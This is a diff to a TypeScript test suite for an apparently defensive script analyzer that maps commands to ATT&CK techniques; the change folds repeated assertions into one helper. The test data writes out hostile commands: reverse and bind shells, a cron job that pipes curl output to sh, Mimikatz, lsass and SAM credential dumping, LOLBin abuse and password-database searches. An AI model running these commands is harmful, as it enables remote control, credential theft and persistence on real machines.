@@ -12,6 +12,13 @@ const worst = (text: string) => {
   return findings.reduce((a, f) => (order.indexOf(f.severity) > order.indexOf(a) ? f.severity : a), 'info');
 };
 const technique = (text: string, id: string) => analyzeScriptText(text).findings.find((f) => f.id === `script.technique.${id}`);
+/** The text raises the rule, named by its ATT&CK id, at that severity (any, when none is given). */
+const expectTechnique = (text: string, id: string, tech: string, severity?: string): void => {
+  const f = technique(text, id);
+  expect(f).toBeDefined();
+  expect(f?.name.startsWith(tech)).toBe(true);
+  if (severity !== undefined) expect(f?.severity).toBe(severity);
+};
 
 describe('reverse and bind shells, one per interpreter', () => {
   it.each([
@@ -33,12 +40,7 @@ describe('reverse and bind shells, one per interpreter', () => {
     ['socat', 'socat tcp-connect:10.0.0.5:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane', 'revshell.socat', 'T1059.004'],
     ['powershell', '$client = New-Object System.Net.Sockets.TCPClient("10.0.0.5",4444);$stream = $client.GetStream();while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object Text.ASCIIEncoding).GetString($bytes,0,$i);$sendback = (iex $data 2>&1 | Out-String )}', 'revshell.powershell', 'T1059.001'],
     ['bind nc', 'nc -lvnp 4444 -e /bin/sh', 'bindshell.listener', 'T1059.004'],
-  ])('%s', (_n, text, id, tech) => {
-    const f = technique(text, id);
-    expect(f).toBeDefined();
-    expect(f?.name.startsWith(tech)).toBe(true);
-    expect(f?.severity).toBe('critical');
-  });
+  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech, 'critical'));
 });
 
 describe('download cradles and obfuscation', () => {
@@ -91,11 +93,7 @@ describe('LOLBins, reflective load, tampering, persistence, credentials', () => 
     ['mimikatz', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"', 'cred.mimikatz', 'T1003.001'],
     ['lsass dump', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'cred.lsass_dump', 'T1003.001'],
     ['sam hive', 'reg save HKLM\\SAM C:\\temp\\sam.save', 'cred.sam_hive', 'T1003.002'],
-  ])('%s', (_n, text, id, tech) => {
-    const f = technique(text, id);
-    expect(f).toBeDefined();
-    expect(f?.name.startsWith(tech)).toBe(true);
-  });
+  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech));
 
   it.each([
     ['cron', '(crontab -l; echo "*/5 * * * * curl -s http://10.0.0.5/x | sh") | crontab -', 'persist.cron', 'T1053.003'],
@@ -548,12 +546,7 @@ describe('twelfth round: shapes from the training split misses, each with a beni
     ['rpcping forces NTLM to a host', 'rpcping -s 10.1.2.3 -e 9997 -a connect -u NTLM', 'lolbin.com_or_auth_proxy', 'T1218', 'medium'],
     ['control.exe loads a DLL', 'control.exe C:\\Users\\Public\\panel.dll', 'lolbin.com_or_auth_proxy', 'T1218', 'medium'],
     ['Electron app told to launch its GPU process through cmd', '"C:\\Program Files\\Chat\\chat.exe" --disable-gpu-sandbox --gpu-launcher="cmd /c start notepad"', 'lolbin.electron_cmd_prefix', 'T1218.015', 'medium'],
-  ])('%s', (_n, text, id, tech, severity) => {
-    const f = technique(text, id);
-    expect(f).toBeDefined();
-    expect(f?.name.startsWith(tech)).toBe(true);
-    expect(f?.severity).toBe(severity);
-  });
+  ])('%s', (_n, text, id, tech, severity) => expectTechnique(text, id, tech, severity));
 
   it.each([
     ['security center key', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Security Center"'],
@@ -636,12 +629,7 @@ describe('fifteenth round: procedures the one-liner gate let past the model as r
     ['user folders searched for KeePass databases', 'Get-ChildItem -Path C:\\Users -Include *.kdbx -Recurse -ErrorAction SilentlyContinue', 'cred.password_manager_search', 'T1555.005'],
     ['the file system searched for KeePass databases', 'find / -name "*.kdbx" 2>/dev/null', 'cred.password_manager_search', 'T1555.005'],
     ['a drive searched with dir /s', 'dir /s /b C:\\*.kdbx', 'cred.password_manager_search', 'T1555.005'],
-  ])('%s', (_n, text, id, tech) => {
-    const f = technique(text, id);
-    expect(f).toBeDefined();
-    expect(f?.name.startsWith(tech)).toBe(true);
-    expect(f?.severity).toBe('medium');
-  });
+  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech, 'medium'));
 
   it.each([
     ['Wi-Fi profiles listed without keys', 'netsh wlan show profiles'],
